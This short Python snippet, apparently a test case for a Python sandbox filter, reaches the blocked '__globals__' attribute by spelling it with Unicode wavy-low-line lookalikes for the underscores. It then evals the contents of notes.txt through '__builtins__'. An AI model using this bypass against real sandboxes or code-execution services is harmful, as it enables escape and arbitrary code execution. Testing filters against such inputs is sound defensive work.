# reaches: a dunder attribute with a wavy low line
(lambda: 0)._﹍globals﹍_["__builtins__"].eval(open("notes.txt").read())
